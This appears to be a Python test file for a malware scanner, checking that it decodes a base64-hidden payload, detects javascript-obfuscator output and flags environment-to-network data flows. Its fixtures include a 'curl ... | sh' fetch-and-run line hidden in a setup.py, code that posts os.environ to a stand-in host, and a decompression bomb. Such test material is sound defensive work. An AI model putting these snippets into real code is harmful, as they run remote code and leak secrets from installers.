"""The static engines as users see them: decoded payloads, protector detection and data flows
in the text report and in the JSON result sections (validated by the result schema), whatever
the model says. The engines themselves have Rust unit, snapshot and property tests."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import jsonschema

import malwi
from malwi.report import MalwiReport

from .conftest import ROOT, run_malwi

SCHEMA = json.loads((ROOT / "data" / "schemas" / "analysis_result_schema.json").read_text())
PAYLOAD = "import os\nos.system('curl http://198.51.100.7/x | sh')\n"

# The shape javascript-obfuscator gives its output (written for this test): a string array, a
# rotation loop and `_0x` names everywhere. Nothing here runs.
OBFUSCATED_JS = (
    "var _0x4a2b=['log','Hello\\x20World','push','shift'];"
    "(function(_0x1c0d2e,_0x4a2b3f){var _0x2d8f05=function(_0x3b1e4a){while(--_0x3b1e4a){"
    "_0x1c0d2e['push'](_0x1c0d2e['shift']());}};_0x2d8f05(++_0x4a2b3f);}(_0x4a2b,0x1b3));"
    "var _0x2d8f=function(_0x1c0d2e,_0x4a2b3f){_0x1c0d2e=_0x1c0d2e-0x0;var _0x2d8f05=_0x4a2b[_0x1c0d2e];"
    "return _0x2d8f05;};function _0x5e1f(){var _0x3c9a=_0x2d8f('0x0');console[_0x3c9a](_0x2d8f('0x1'));}"
    "_0x5e1f();var _0x11aa=_0x2d8f('0x1'),_0x22bb=_0x2d8f('0x0'),_0x33cc=_0x4a2b[0x2],_0x44dd=_0x4a2b[0x3];\n"
)


def scan_json(path: Path, *extra: str) -> dict[str, Any]:
    result = run_malwi("scan", str(path), "--format", "json", *extra)
    document: dict[str, Any] = json.loads(result.stdout)
    jsonschema.validate(document, SCHEMA)
    return document


def scan_text(path: Path) -> str:
    return run_malwi("scan", str(path)).stdout.decode()


def test_exec_of_base64_shows_the_decoded_behaviour(tmp_path: Path) -> None:
    encoded = base64.b64encode(PAYLOAD.encode()).decode()
    (tmp_path / "setup.py").write_text(f"import base64\nexec(base64.b64decode('{encoded}'))\n")
    section = scan_json(tmp_path)["results"]["deobfuscation"]
    assert section["status"] == "completed" and section["files_with_payloads"] == 1
    (payload,) = section["payloads"]
    assert payload["file"] == str(tmp_path / "setup.py")
    assert payload["object"] == "<decoded:L2>" and payload["chain"] == "base64" and payload["lines"] == [2, 2]
    assert "PROCESS_MANAGEMENT" in payload["activities"]
    # The decoded object carries the verdict, and the reason says it was hidden and what it does.
    text = scan_text(tmp_path)
    assert "setup.py:2-2  <decoded:L2> (module)" in text
    assert (
        "at install time (setup.py): is code hidden in a string literal (base64); starts, replaces or controls"
        in text
    )


def test_javascript_obfuscator_output_is_reported_as_protected(tmp_path: Path) -> None:
    (tmp_path / "index.js").write_text(OBFUSCATED_JS)
    (tmp_path / "plain.js").write_text("module.exports = function add(a, b) { return a + b; };\n")
    document = scan_json(tmp_path)
    section = document["results"]["vm_detection"]
    assert section["is_protected"] is True and section["protector"] == "javascript_obfuscator"
    assert section["protectors"] == ["javascript_obfuscator"] and section["confidence"] >= 0.5
    assert [Path(p).name for p in section["protected_files"]] == ["index.js"]
    assert all(e["file"].endswith("index.js") and e["line"] == 1 for e in section["evidence"])
    text = scan_text(tmp_path)
    assert "protected: javascript_obfuscator" in text and "index.js" in text
    markdown = run_malwi("scan", str(tmp_path), "--format", "markdown").stdout.decode()
    assert "## Static analysis" in markdown and "protected: javascript_obfuscator" in markdown


def test_environment_posted_is_an_environment_to_network_flow(tmp_path: Path) -> None:
    (tmp_path / "client.py").write_text(
        "import os\nimport requests\n\n\ndef report(url):\n    requests.post(url, data=os.environ)\n"
    )
    flows = scan_json(tmp_path)["results"]["taint_tracking"]["taint_flows"]
    assert [(f["object"], f["path"], f["source_line"], f["sink_line"]) for f in flows] == [
        ("report", "environment → network", 6, 6)
    ]
    text = scan_text(tmp_path)
    assert (
        "sends environment variables over the network" in text
        and "flow: environment → network (line 6)" in text
    )


def test_an_environment_variable_printed_locally_is_not_a_flow(tmp_path: Path) -> None:
    (tmp_path / "show.py").write_text("import os\n\n\ndef show():\n    print(os.environ['HOME'])\n")
    document = scan_json(tmp_path)
    assert document["results"]["taint_tracking"]["taint_flows"] == []
    assert document["results"]["vm_detection"]["is_protected"] is False
    assert document["results"]["deobfuscation"]["payloads"] == []
    assert "→" not in scan_text(tmp_path)


def test_cached_results_keep_the_engine_sections(tmp_path: Path) -> None:
    (tmp_path / "index.js").write_text(OBFUSCATED_JS)
    (tmp_path / "client.py").write_text("import os, requests\nrequests.post(u, data=os.environ)\n")
    first = scan_json(tmp_path)
    second = scan_json(tmp_path)
    assert second["statistics"]["cached"] == 2
    for section in ("vm_detection", "taint_tracking", "deobfuscation"):
        assert first["results"][section] == second["results"][section]
    # Both files come from the cache, each with what the engines found in it.
    report = MalwiReport.create(str(tmp_path), silent=True, cache=True)
    files = {Path(f.path).name: f for f in report.files}
    assert {name: f.cached for name, f in files.items()} == {"client.py": True, "index.js": True}
    assert files["index.js"].protection is not None and files["index.js"].protection["is_protected"]
    assert [(f["source"], f["sink"]) for f in files["client.py"].flows] == [("environment", "network")]


def test_featurizer_switches_add_flow_and_protector_tokens() -> None:
    config = malwi.FeaturizerConfig(flow_tokens=True, protector_tokens=True)
    assert config.flow_tokens and config.protector_tokens
    assert config.featurizer_id != malwi.FeaturizerConfig().featurizer_id
    source = "import os, requests\nrequests.post(u, data=os.environ)\n"
    module = malwi.compile_source(source, "python", config=config)[0]
    assert module.tokens()[0] == "FLOW_ENVIRONMENT_TO_NETWORK"
    assert malwi.compile_source(source, "python")[0].tokens()[0] == "IMPORT_NAME"
    protected = malwi.compile_source(OBFUSCATED_JS, "javascript", config=config)[0]
    assert protected.tokens()[0] == "PROTECTOR_JAVASCRIPT_OBFUSCATOR"
    reserved = set(malwi.reserved_tokens())
    assert {"FLOW_ENVIRONMENT_TO_NETWORK", "PROTECTOR_JAVASCRIPT_OBFUSCATOR"} <= reserved


def test_file_reports_carry_flows_and_protection(tmp_path: Path) -> None:
    (tmp_path / "index.js").write_text(OBFUSCATED_JS)
    (tmp_path / "send.js").write_text(
        "fetch('https://c.example/e', {method: 'POST', body: JSON.stringify(process.env)});\n"
    )
    reports = {Path(r.path).name: r for r in malwi.compile_files(malwi.discover([str(tmp_path)]).files)}
    protection = reports["index.js"].protection
    assert protection is not None and protection.is_protected and protection.evidence
    assert protection.protector == "javascript_obfuscator"
    assert protection.to_dict()["evidence"][0]["signal"] == protection.evidence[0].signal
    assert reports["send.js"].protection is None
    (flow,) = [f for o in reports["send.js"].objects for f in o.flows]
    assert (flow.source, flow.sink, flow.sink_detail) == ("environment", "network", "https://c.example/e")
    assert flow.to_dict() == {
        "source": "environment",
        "sink": "network",
        "source_line": 1,
        "sink_line": 1,
        "source_detail": None,
        "sink_detail": "https://c.example/e",
    }


def test_a_decoding_bomb_stops_with_a_warning_and_marshal_is_reported_not_loaded(tmp_path: Path) -> None:
    import bz2
    import marshal
    import zlib

    bomb = base64.b64encode(bz2.compress(b"A" * (16 << 20))).decode()
    (tmp_path / "bomb.py").write_text(
        f"import base64, bz2\nexec(bz2.decompress(base64.b64decode('{bomb}')))\n"
    )
    code = marshal.dumps(compile("print('defanged')", "<x>", "exec"))
    blob = base64.b64encode(zlib.compress(code)).decode()
    (tmp_path / "loader.py").write_text(
        f"import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('{blob}'))))\n"
    )
    result = run_malwi("scan", str(tmp_path), "--format", "json")
    document = json.loads(result.stdout)
    jsonschema.validate(document, SCHEMA)
    notes = {Path(n["file"]).name: n for n in document["results"]["deobfuscation"]["notes"]}
    assert notes["bomb.py"]["kind"] == "decoding_limit" and notes["bomb.py"]["lines"][0] == 2
    assert notes["bomb.py"]["limit"] == "MAX_OUTPUT", (
        "the limit is named by its constant, not found in the text"
    )
    assert notes["loader.py"]["kind"] == "marshal_code" and "not loaded" in notes["loader.py"]["detail"]
    warnings = [w for w in document["warnings"] if "bomb.py" in w]
    assert warnings and "decoding stopped" in warnings[0]
    assert b"decoding stopped" in result.stderr


def test_sarif_holds_flagged_packages_only_with_their_flows_in_words(tmp_path: Path) -> None:
    """SARIF is for people who act on alerts: one result per object carrying a flagged package's
    verdict; a protected file in a package judged good is in the JSON sections, not an alert."""
    (tmp_path / "app").mkdir()
    (tmp_path / "app" / "package.json").write_text('{"name": "app"}')
    (tmp_path / "app" / "index.js").write_text(OBFUSCATED_JS)
    (tmp_path / "client").mkdir()
    (tmp_path / "client" / "pyproject.toml").write_text('[project]\nname = "client"\n')
    (tmp_path / "client" / "client.py").write_text(
        "import os, requests\n\n\nrequests.post(u, data=os.environ)\n"
    )
    document = scan_json(tmp_path)
    assert {u["name"]: u["verdict"] for u in document["units"]} == {"client": "malicious", "app": "good"}
    assert document["results"]["vm_detection"]["is_protected"] is True
    log = json.loads(run_malwi("scan", str(tmp_path), "--format", "sarif").stdout)
    results = log["runs"][0]["results"]
    assert results and {r["properties"]["package"] for r in results} == {"client"}
    assert all(r["level"] == "error" for r in results)
    (carrier,) = [r for r in results if r["properties"].get("flows")]
    assert carrier["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "client/client.py"
    assert carrier["properties"]["flows"][0]["source"] == "environment"
    assert "sends environment variables over the network" in carrier["message"]["text"]
    assert {rule["id"] for rule in log["runs"][0]["tool"]["driver"]["rules"]} >= {"MALICIOUS_OBJECT"}
